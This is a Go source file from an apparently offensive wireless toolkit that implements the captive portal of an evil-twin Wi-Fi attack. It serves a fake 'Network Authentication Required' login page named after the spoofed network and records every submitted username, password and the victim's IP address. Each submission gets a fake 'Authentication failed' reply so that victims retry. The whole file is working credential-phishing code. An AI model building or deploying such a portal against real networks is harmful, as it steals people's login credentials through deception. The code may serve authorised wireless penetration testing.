package eviltwin

import (
	"html/template"
	"net"
	"net/http"
	"time"

	"github.com/lcalzada-xor/airstrike/internal/core/domain"
	"github.com/lcalzada-xor/airstrike/internal/core/ports"
	"github.com/lcalzada-xor/airstrike/internal/telemetry"
)

// LoginFailedBody is returned for every submission so the client retries.
const LoginFailedBody = "Authentication failed. Please try again.<meta http-equiv='refresh' content='2;url=/'>"

const maxFormBytes = 8 << 10

var loginPage = template.Must(template.New("login").Parse(`<html><head>
<meta name='viewport' content='width=device-width, initial-scale=1'>
<title>{{.}}</title>
<style>
body { font-family: Arial; text-align: center; margin: 0; padding: 20px; }
.container { max-width: 400px; margin: 0 auto; }
input { width: 100%; padding: 10px; margin: 10px 0; box-sizing: border-box; }
button { width: 100%; padding: 10px; background: #4CAF50; color: white; border: none; border-radius: 5px; cursor: pointer; }
</style>
</head><body>
<div class='container'>
<h2>Network Authentication Required</h2>
<p>Please enter your credentials to access {{.}}.</p>
<form method='POST' action='/login'>
<input type='text' name='username' placeholder='Username or Email'>
<input type='password' name='password' placeholder='Password'>
<button type='submit'>Connect</button>
</form>
</div>
</body></html>`))

// portalRoutes builds the two captive handlers for ssid. Submissions are handed
// to sink and counted through onCapture.
func portalRoutes(ssid string, sink ports.RecordPersister, onCapture func()) ports.PortalRoutes {
	root := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Cache-Control", "no-store")
		_ = loginPage.Execute(w, ssid)
	}

	login := func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			http.Redirect(w, r, "/", http.StatusFound)
			return
		}
		r.Body = http.MaxBytesReader(w, r.Body, maxFormBytes)
		if err := r.ParseForm(); err != nil {
			http.Error(w, "Bad Request", http.StatusBadRequest)
			return
		}
		fields := make(map[string]string, len(r.PostForm))
		for k := range r.PostForm {
			fields[k] = r.PostForm.Get(k)
		}

		remote := r.RemoteAddr
		if host, _, err := net.SplitHostPort(remote); err == nil {
			remote = host
		}
		if sink != nil {
			sink.Persist(domain.CredentialRecord{
				SSID:       ssid,
				Fields:     fields,
				RemoteAddr: remote,
				CapturedAt: time.Now().UTC(),
			})
		}
		telemetry.CredentialsCaptured.Inc()
		onCapture()

		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write([]byte(LoginFailedBody))
	}

	return ports.PortalRoutes{Root: root, Login: login}
}
